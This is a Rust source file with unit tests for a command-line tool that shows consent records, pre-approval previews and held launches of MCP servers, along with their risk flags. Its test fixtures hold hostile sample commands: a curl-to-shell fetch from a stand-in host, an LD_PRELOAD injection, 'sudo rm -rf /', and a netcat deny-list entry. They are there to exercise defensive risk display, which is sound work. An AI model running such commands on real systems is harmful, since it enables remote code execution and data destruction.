//! Human rendering of the consent API's answers (pure): consent records, the preview
//! shown before an approval, and launches held in `ask` mode.
//!
//! Everything is read from `serde_json::Value`, so a field the daemon adds later
//! never breaks the CLI, and a field it leaves out is shown as `?` instead of
//! failing. Commands are always shown in full (MCP spec 2025-11-25, Security Best
//! Practices: the exact command, without truncation): built from the exact argv,
//! each argument shell-quoted, and when a width is given, wrapped *between*
//! arguments with a shell continuation (` \`) so the text stays a valid command.
use std::fmt::Write as _;

use serde_json::Value;

use crate::event::{shell_quote, Bytes};

/// Indent of the lines under a record or a held launch.
const DETAIL: usize = 4;

/// An argv item, a path or an env value: a JSON string, or `{"base64": …}` for
/// bytes that are not UTF-8. `None` when it is neither.
fn bytes_of(v: &Value) -> Option<Bytes> {
    serde_json::from_value(v.clone()).ok()
}

/// A byte string as a shell would need it (quoted only when needed).
fn quoted(v: &Value) -> String {
    bytes_of(v).map_or_else(|| "?".to_owned(), |b| shell_quote(&b.0))
}

/// The exact argv of a record, preview or held launch, one shell word per
/// argument. Falls back to the daemon's `command` text when there is no readable
/// argv.
pub fn command_words(v: &Value) -> Vec<String> {
    if let Some(argv) = v["argv"].as_array() {
        // The one way a command is shown to a person: `event::shell_words`, as in
        // `log`, `tree` and `scan`.
        let argv: Option<Vec<crate::event::Bytes>> = argv.iter().map(bytes_of).collect();
        if let Some(argv) = argv.filter(|a| !a.is_empty()) {
            return crate::event::shell_words(&argv);
        }
    }
    match v["command"].as_str() {
        Some(c) if !c.is_empty() => vec![c.to_owned()],
        _ => vec!["(no argv)".to_owned()],
    }
}

/// The full command on one line.
pub fn command_line(v: &Value) -> String {
    command_words(v).join(" ")
}

/// `prefix` then the words, never cut: with a `width`, lines end with ` \` and go
/// on `indent` spaces in, breaking only between words (a word longer than the
/// width gets a line of its own). Ends with a newline.
pub fn wrap_words(words: &[String], prefix: &str, indent: usize, width: Option<usize>) -> String {
    let mut out = String::from(prefix);
    let mut col = prefix.chars().count();
    let line_start = col;
    for (i, w) in words.iter().enumerate() {
        let len = w.chars().count();
        if i > 0 {
            // Room for " word" and, unless it is the last word, a trailing " \".
            let tail = if i + 1 < words.len() { 2 } else { 0 };
            let fits = width.is_none_or(|wd| col + 1 + len + tail <= wd);
            if fits || col == line_start {
                out.push(' ');
                col += 1;
            } else {
                let _ = write!(out, " \\\n{:indent$}", "");
                col = indent;
            }
        }
        out.push_str(w);
        col += len;
    }
    out.push('\n');
    out
}

/// `always`, `once`, `until 2026-12-01T00:00:00Z`.
pub fn scope_text(v: &Value) -> String {
    match v {
        Value::String(s) => s.clone(),
        Value::Object(m) => match m.get("until").and_then(Value::as_str) {
            Some(t) => format!("until {t}"),
            None => v.to_string(),
        },
        Value::Null => "?".to_owned(),
        other => other.to_string(),
    }
}

/// A JSON value as plain text: strings unquoted, absent as `?`.
fn text(v: &Value) -> String {
    match v {
        Value::String(s) => s.clone(),
        Value::Null => "?".to_owned(),
        other => other.to_string(),
    }
}

/// The `RISKS:` block, or `no risk flags`. Each line: `  ! code: detail`.
pub fn render_risks(risks: &Value, indent: usize) -> String {
    let list = risks.as_array().map(Vec::as_slice).unwrap_or_default();
    if list.is_empty() {
        return format!("{:indent$}no risk flags\n", "");
    }
    let mut out = format!("{:indent$}RISKS:\n", "");
    for r in list {
        let code = text(&r["code"]);
        match r["detail"].as_str().filter(|d| !d.is_empty()) {
            Some(d) => {
                let _ = writeln!(out, "{:indent$}  ! {code}: {d}", "");
            }
            None => {
                let _ = writeln!(out, "{:indent$}  ! {code}", "");
            }
        }
    }
    out
}

/// `/usr/bin/node` then, on the next line, `sha256 …`, under a `label:` column.
fn binding(out: &mut String, label: &str, f: &Value) {
    let _ = writeln!(out, "{label:<9}{}", quoted(&f["path"]));
    if let Some(h) = f["sha256"].as_str() {
        let _ = writeln!(out, "{:9}sha256 {h}", "");
    }
}

/// The env a command would be approved with: `NAME=value` for each variable that
/// is set (null values are "must be absent" and are not listed).
fn env_lines(env: &Value) -> Vec<String> {
    env.as_object()
        .map(|m| {
            m.iter()
                .filter(|(_, v)| !v.is_null())
                .map(|(k, v)| format!("{k}={}", quoted(v)))
                .collect()
        })
        .unwrap_or_default()
}

/// Everything a person needs to see before approving a command: the exact command,
/// what it runs (path and content hash), where, with which environment, and every
/// risk flag.
pub fn render_preview(v: &Value, width: Option<usize>) -> String {
    let mut out = String::new();
    if let Some(id) = v["event_id"].as_u64() {
        let _ = writeln!(out, "{:<9}#{id}", "event:");
    }
    let _ = write!(out, "{:<9}{}", "host:", text(&v["host"]));
    if let Some(uid) = v["uid"].as_u64() {
        let _ = write!(out, " ({})", uid_text(uid));
    }
    out.push('\n');
    out.push_str(&wrap_words(
        &command_words(v),
        &format!("{:<9}$ ", "command:"),
        11,
        width,
    ));
    binding(&mut out, "exe:", &v["exe"]);
    if v["script"].is_object() {
        binding(&mut out, "script:", &v["script"]);
    }
    if v["resolved"].is_object() {
        binding(&mut out, "runs:", &v["resolved"]);
    }
    let cwd = if v["cwd"].is_null() {
        "(not part of the approval)".to_owned()
    } else {
        quoted(&v["cwd"])
    };
    let _ = writeln!(out, "{:<9}{cwd}", "cwd:");
    let env = env_lines(&v["env"]);
    if env.is_empty() {
        let _ = writeln!(out, "{:<9}(no security-relevant variables set)", "env:");
    }
    for (i, line) in env.iter().enumerate() {
        let label = if i == 0 { "env:" } else { "" };
        let _ = writeln!(out, "{label:<9}{line}");
    }
    if let Some(r) = v["existing_record"].as_u64() {
        let _ = writeln!(out, "note:    record {r} already approves this command");
    }
    out.push_str(&render_risks(&v["risks"], 0));
    out
}

/// The consent records as a table (id, host, scope, state, source, created), each
/// followed by its full command and what it is bound to; then the per-host modes.
/// Problems are not part of it: see [`problems`].
pub fn render_records(v: &Value, width: Option<usize>) -> String {
    let records = v["records"]
        .as_array()
        .map(Vec::as_slice)
        .unwrap_or_default();
    let mut out = String::new();
    if records.is_empty() {
        out.push_str("no consent records\n");
    } else {
        let header = ["ID", "HOST", "SCOPE", "STATE", "SOURCE", "CREATED"];
        let rows: Vec<[String; 6]> = records
            .iter()
            .map(|r| {
                [
                    text(&r["id"]),
                    text(&r["host"]),
                    scope_text(&r["scope"]),
                    text(&r["state"]),
                    text(&r["source"]),
                    created_text(&r["created"]),
                ]
            })
            .collect();
        let mut w = header.map(str::len);
        for row in &rows {
            for (i, cell) in row.iter().enumerate() {
                w[i] = w[i].max(cell.chars().count());
            }
        }
        let line = |cells: [&str; 6]| {
            let mut l = String::new();
            for (i, c) in cells.iter().enumerate() {
                if i + 1 == cells.len() {
                    l.push_str(c);
                } else {
                    let _ = write!(l, "{c:<0$}  ", w[i]);
                }
            }
            l.truncate(l.trim_end().len());
            l.push('\n');
            l
        };
        out.push_str(&line(header));
        for (r, row) in records.iter().zip(&rows) {
            out.push_str(&line(row.each_ref().map(String::as_str)));
            record_details(&mut out, r, width);
        }
    }
    out.push_str(&render_modes(&v["modes"]));
    if let Some(deny) = v["deny"].as_array().filter(|d| !d.is_empty()) {
        out.push_str("\nnever allowed (managed deny list):\n");
        for d in deny {
            let _ = writeln!(out, "  {}", text(d));
        }
    }
    out
}

/// `2026-11-27T12:05:39.025147323Z` → `2026-11-27T12:05:39Z` (whole seconds are
/// enough in a table; `--json` has the exact time). Anything else as sent.
fn created_text(v: &Value) -> String {
    let t = text(v);
    if let Some((secs, frac)) = t.split_once('.') {
        if let Some(digits) = frac.strip_suffix('Z') {
            if !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit()) {
                return format!("{secs}Z");
            }
        }
    }
    t
}

/// The lines under a record's row: command, bindings, env, note, state reason.
fn record_details(out: &mut String, r: &Value, width: Option<usize>) {
    let pad = " ".repeat(DETAIL);
    out.push_str(&wrap_words(
        &command_words(r),
        &format!("{pad}$ "),
        DETAIL + 4,
        width,
    ));
    let mut bound = format!("{pad}exe {}", quoted(&r["exe"]["path"]));
    if r["resolved"].is_object() {
        let _ = write!(bound, "  runs {}", quoted(&r["resolved"]["path"]));
    }
    if r["script"].is_object() {
        let _ = write!(bound, "  script {}", quoted(&r["script"]["path"]));
    }
    if !r["cwd"].is_null() {
        let _ = write!(bound, "  cwd {}", quoted(&r["cwd"]));
    }
    if let Some(uid) = r["uid"].as_u64() {
        let _ = write!(bound, "  {}", uid_text(uid));
    }
    let _ = writeln!(out, "{bound}");
    for e in env_lines(&r["env"]) {
        let _ = writeln!(out, "{pad}env {e}");
    }
    if let Some(n) = r["note"].as_str().filter(|n| !n.is_empty()) {
        let _ = writeln!(out, "{pad}note: {n}");
    }
    if let Some(why) = r["state_reason"].as_str().filter(|s| !s.is_empty()) {
        let _ = writeln!(out, "{pad}{}: {why}", text(&r["state"]));
    }
}

/// `uid 1000`, or `any user` for records that approve for every user.
fn uid_text(uid: u64) -> String {
    if uid == u64::from(crate::policy::record::ANY_UID) {
        "any user".to_owned()
    } else {
        format!("uid {uid}")
    }
}

/// `modes:` then one line per host: mode, and who set it (`locked by …` for a
/// mode managed policy locks).
pub fn render_modes(modes: &Value) -> String {
    let Some(m) = modes.as_object().filter(|m| !m.is_empty()) else {
        return "\nmodes: none reported\n".to_owned();
    };
    let hw = m.keys().map(|k| k.chars().count()).max().unwrap_or(0);
    let mw = m
        .values()
        .map(|v| text(&v["mode"]).chars().count())
        .max()
        .unwrap_or(0);
    let mut out = String::from("\nmodes:\n");
    for (host, v) in m {
        let source = text(&v["source"]);
        let how = if v["locked"].as_bool() == Some(true) {
            format!("locked by {source}")
        } else {
            format!("set by {source}")
        };
        let _ = writeln!(out, "  {host:<hw$}  {:<mw$}  {how}", text(&v["mode"]));
    }
    out
}

/// The `problems` of a records answer (unreadable or invalid entries in the
/// consent store or managed policy), one message each.
pub fn problems(v: &Value) -> Vec<String> {
    v["problems"]
        .as_array()
        .map(|p| p.iter().map(text).collect())
        .unwrap_or_default()
}

/// `1.5s`, `60s`.
fn secs(v: &Value) -> String {
    match v.as_f64() {
        Some(s) if s.fract() == 0.0 => format!("{s:.0}s"),
        Some(s) => format!("{s:.1}s"),
        None => "?".to_owned(),
    }
}

/// One held launch: id, pid, host, uid, how long it has been held, its full
/// command and its risk flags.
pub fn render_pending_entry(p: &Value, width: Option<usize>) -> String {
    let mut out = format!(
        "#{}  pid {}  host {}",
        text(&p["id"]),
        text(&p["pid"]),
        text(&p["host"])
    );
    if let Some(uid) = p["uid"].as_u64() {
        let _ = write!(out, "  uid {uid}");
    }
    let _ = writeln!(
        out,
        "  held for {} of {}",
        secs(&p["held_secs"]),
        secs(&p["timeout_secs"])
    );
    let pad = " ".repeat(DETAIL);
    out.push_str(&wrap_words(
        &command_words(p),
        &format!("{pad}$ "),
        DETAIL + 4,
        width,
    ));
    out.push_str(&render_risks(&p["risks"], DETAIL));
    out
}

/// Every held launch, or `no launches are waiting`.
pub fn render_pending(v: &Value, width: Option<usize>) -> String {
    let list = v.as_array().map(Vec::as_slice).unwrap_or_default();
    if list.is_empty() {
        return "no launches are waiting\n".to_owned();
    }
    list.iter()
        .map(|p| render_pending_entry(p, width))
        .collect::<Vec<_>>()
        .join("\n")
}

/// Why a record the daemon just created is not what the preview showed, if it is
/// not: the executable (or script) content hash changed between the two calls.
/// Only compares what both documents state.
pub fn binding_mismatch(preview: &Value, record: &Value) -> Option<String> {
    for what in ["exe", "script"] {
        let before = &preview[what]["sha256"];
        let after = &record[what]["sha256"];
        if before.is_string() && after.is_string() && before != after {
            return Some(format!(
                "the {what} {} changed between the preview and the approval (sha256 {} then {})",
                quoted(&record[what]["path"]),
                text(before),
                text(after)
            ));
        }
        if preview[what].is_object() != record[what].is_object() && what == "script" {
            return Some(
                "the launch's script changed between the preview and the approval".to_owned(),
            );
        }
    }
    None
}

/// JSON text re-indented (two spaces, `"key": value`), keeping the order of keys
/// and the exact text of every value. `raw` must be valid JSON.
pub fn pretty_json(raw: &str) -> String {
    let mut out = String::with_capacity(raw.len() * 2);
    let mut depth = 0usize;
    let mut in_str = false;
    let mut escaped = false;
    let mut chars = raw.trim().chars().peekable();
    let newline = |out: &mut String, depth: usize| {
        out.push('\n');
        out.push_str(&"  ".repeat(depth));
    };
    while let Some(c) = chars.next() {
        if in_str {
            out.push(c);
            if escaped {
                escaped = false;
            } else if c == '\\' {
                escaped = true;
            } else if c == '"' {
                in_str = false;
            }
            continue;
        }
        match c {
            '"' => {
                in_str = true;
                out.push(c);
            }
            '{' | '[' => {
                while chars.peek().is_some_and(|n| n.is_whitespace()) {
                    chars.next();
                }
                out.push(c);
                if matches!(chars.peek(), Some('}' | ']')) {
                    out.extend(chars.next());
                } else {
                    depth += 1;
                    newline(&mut out, depth);
                }
            }
            '}' | ']' => {
                depth = depth.saturating_sub(1);
                newline(&mut out, depth);
                out.push(c);
            }
            ',' => {
                out.push(c);
                newline(&mut out, depth);
            }
            ':' => out.push_str(": "),
            c if c.is_whitespace() => {}
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    const SHA_A: &str = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
    const SHA_B: &str = "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb";

    fn record() -> Value {
        json!({
            "id": 7,
            "host": "claude-code",
            "exe": {"path": "/usr/bin/node", "sha256": SHA_A},
            "script": {"path": "/srv/mcp server/index.js", "sha256": SHA_B},
            "argv": ["node", "/srv/mcp server/index.js", {"base64": "L/8="}],
            "cwd": "/home/u/proj",
            "env": {"LD_PRELOAD": null, "NODE_OPTIONS": "--max-old-space-size=4096"},
            "scope": {"until": "2026-12-01T00:00:00Z"},
            "source": "user:1000",
            "created": "2026-11-27T10:00:00.123456789Z",
            "note": "filesystem server",
            "uid": 1000,
            "state": "stale",
            "state_reason": "exe content changed",
            "some_future_field": [1, 2, 3]
        })
    }

    #[test]
    fn records_table_shows_full_command_bindings_and_modes() {
        let v = json!({
            "records": [
                record(),
                {"id": 12, "host": "*", "exe": {"path": "/usr/bin/uvx", "sha256": SHA_A},
                 "argv": ["uvx", "mcp-server-git"], "env": {}, "scope": "always",
                 "source": "managed:/etc/mcpwatch/policy.d/git.toml",
                 "created": "2026-11-20T08:00:00Z", "uid": 4_294_967_295_u64, "state": "active"}
            ],
            "modes": {
                "claude-code": {"mode": "enforce", "locked": true,
                                "source": "managed:/etc/mcpwatch/policy.d/a.toml"},
                "cursor": {"mode": "ask", "locked": false, "source": "user"}
            },
            "deny": ["/usr/bin/nc"],
            "problems": ["/var/lib/mcpwatch/records.json:3:5: unknown field `x`"]
        });
        let expected = "\
ID  HOST         SCOPE                       STATE   SOURCE                                   CREATED
7   claude-code  until 2026-12-01T00:00:00Z  stale   user:1000                                2026-11-27T10:00:00Z
    $ node '/srv/mcp server/index.js' $'/\\xff'
    exe /usr/bin/node  script '/srv/mcp server/index.js'  cwd /home/u/proj  uid 1000
    env NODE_OPTIONS=--max-old-space-size=4096
    note: filesystem server
    stale: exe content changed
12  *            always                      active  managed:/etc/mcpwatch/policy.d/git.toml  2026-11-20T08:00:00Z
    $ uvx mcp-server-git
    exe /usr/bin/uvx  any user

modes:
  claude-code  enforce  locked by managed:/etc/mcpwatch/policy.d/a.toml
  cursor       ask      set by user

never allowed (managed deny list):
  /usr/bin/nc
";
        assert_eq!(render_records(&v, None), expected);
        assert_eq!(
            problems(&v),
            ["/var/lib/mcpwatch/records.json:3:5: unknown field `x`"]
        );
    }

    #[test]
    fn empty_records_say_so_and_missing_fields_do_not_break() {
        assert_eq!(
            render_records(&json!({"records": []}), None),
            "no consent records\n\nmodes: none reported\n"
        );
        let out = render_records(&json!({"records": [{"id": 1}]}), Some(40));
        assert!(out.contains("1   ?     ?      ?      ?       ?\n"), "{out}");
        assert!(out.contains("    $ (no argv)\n"), "{out}");
        assert!(problems(&json!({})).is_empty());
    }

    #[test]
    fn long_commands_wrap_between_words_and_are_never_cut() {
        let words: Vec<String> = [
            "npx",
            "-y",
            "@modelcontextprotocol/server-filesystem",
            "/tmp",
            "/home/u/a-very-long-directory-name-that-does-not-fit",
        ]
        .map(String::from)
        .to_vec();
        let out = wrap_words(&words, "    $ ", 8, Some(40));
        assert_eq!(
            out,
            "    $ npx -y \\\n        @modelcontextprotocol/server-filesystem \\\n        /tmp \\\n        /home/u/a-very-long-directory-name-that-does-not-fit\n"
        );
        for w in &words {
            assert!(out.contains(w.as_str()));
        }
        assert_eq!(
            wrap_words(&words, "$ ", 4, None),
            format!("$ {}\n", words.join(" "))
        );
    }

    #[test]
    fn preview_shows_everything_and_highlights_risks() {
        let v = json!({
            "event_id": 42,
            "host": "cursor",
            "uid": 1000,
            "argv": ["sh", "-c", "curl -s http://x | sh"],
            "command": "sh -c 'curl -s http://x | sh'",
            "exe": {"path": "/usr/bin/dash", "sha256": SHA_A},
            "env": {"LD_PRELOAD": "/tmp/x.so"},
            "risks": [
                {"code": "shell-c", "detail": "argv[1]: sh -c runs a script"},
                {"code": "pipe-to-shell", "detail": "curl piped into sh"}
            ],
            "existing_record": 3
        });
        let expected = format!(
            "\
event:   #42
host:    cursor (uid 1000)
command: $ sh -c 'curl -s http://x | sh'
exe:     /usr/bin/dash
         sha256 {SHA_A}
cwd:     (not part of the approval)
env:     LD_PRELOAD=/tmp/x.so
note:    record 3 already approves this command
RISKS:
  ! shell-c: argv[1]: sh -c runs a script
  ! pipe-to-shell: curl piped into sh
"
        );
        assert_eq!(render_preview(&v, None), expected);

        let quiet = json!({
            "host": "claude-code", "argv": ["uvx", "mcp-server-git"],
            "exe": {"path": "/usr/bin/uvx", "sha256": SHA_A},
            "script": {"path": "/opt/x.py", "sha256": SHA_B},
            "cwd": "/srv", "env": {}, "risks": []
        });
        let out = render_preview(&quiet, None);
        assert!(out.starts_with("host:    claude-code\ncommand: $ uvx mcp-server-git\n"));
        assert!(out.contains(&format!("script:  /opt/x.py\n         sha256 {SHA_B}\n")));
        assert!(out.contains("cwd:     /srv\nenv:     (no security-relevant variables set)\n"));
        assert!(out.ends_with("no risk flags\n"), "{out}");
    }

    #[test]
    fn pending_lists_held_launches_with_time_left_and_risks() {
        let v = json!([
            {"id": 2, "pid": 4242, "host": "claude-code", "uid": 1000,
             "argv": ["sudo", "rm", "-rf", "/"], "command": "sudo rm -rf /",
             "risks": [{"code": "privilege", "detail": "sudo"}],
             "held_secs": 1.5, "timeout_secs": 60},
            {"id": 3, "pid": 4243, "host": "cursor", "uid": 1000,
             "command": "uvx mcp-server-git", "risks": [],
             "held_secs": 0.25, "timeout_secs": 60}
        ]);
        assert_eq!(
            render_pending(&v, None),
            "\
#2  pid 4242  host claude-code  uid 1000  held for 1.5s of 60s
    $ sudo rm -rf /
    RISKS:
      ! privilege: sudo

#3  pid 4243  host cursor  uid 1000  held for 0.2s of 60s
    $ uvx mcp-server-git
    no risk flags
"
        );
        assert_eq!(
            render_pending(&json!([]), None),
            "no launches are waiting\n"
        );
    }

    #[test]
    fn scopes_and_times_read_as_words() {
        assert_eq!(
            created_text(&json!("2026-11-27T12:05:39.025147323Z")),
            "2026-11-27T12:05:39Z"
        );
        assert_eq!(created_text(&json!("yesterday.")), "yesterday.");
        assert_eq!(scope_text(&json!("once")), "once");
        assert_eq!(
            scope_text(&json!({"until": "2026-12-01T00:00:00Z"})),
            "until 2026-12-01T00:00:00Z"
        );
        assert_eq!(scope_text(&Value::Null), "?");
    }

    #[test]
    fn a_changed_binary_between_preview_and_approval_is_caught() {
        let preview = json!({"exe": {"path": "/usr/bin/node", "sha256": SHA_A}});
        let same = json!({"exe": {"path": "/usr/bin/node", "sha256": SHA_A}});
        let swapped = json!({"exe": {"path": "/usr/bin/node", "sha256": SHA_B}});
        assert_eq!(binding_mismatch(&preview, &same), None);
        let why = binding_mismatch(&preview, &swapped).unwrap();
        assert!(why.contains("exe /usr/bin/node changed"), "{why}");
        let with_script =
            json!({"exe": {"sha256": SHA_A}, "script": {"path": "/x", "sha256": SHA_B}});
        assert!(binding_mismatch(&preview, &with_script).is_some());
        assert_eq!(
            binding_mismatch(&json!({}), &with_script.clone()),
            Some("the launch's script changed between the preview and the approval".to_owned())
        );
        assert_eq!(binding_mismatch(&with_script, &with_script), None);
    }

    #[test]
    fn pretty_json_keeps_order_and_values() {
        let raw = r#"{"records":[{"id":1,"argv":["a, b","{\"x\": [1]}",{"base64":"L/8="}],"env":{},"held":1.50}],"modes":{},"problems":[]}"#;
        let pretty = pretty_json(raw);
        assert_eq!(
            pretty,
            r#"{
  "records": [
    {
      "id": 1,
      "argv": [
        "a, b",
        "{\"x\": [1]}",
        {
          "base64": "L/8="
        }
      ],
      "env": {},
      "held": 1.50
    }
  ],
  "modes": {},
  "problems": []
}"#
        );
        let a: Value = serde_json::from_str(raw).unwrap();
        let b: Value = serde_json::from_str(&pretty).unwrap();
        assert_eq!(a, b);
        assert_eq!(pretty_json("[ ]"), "[]");
    }
}
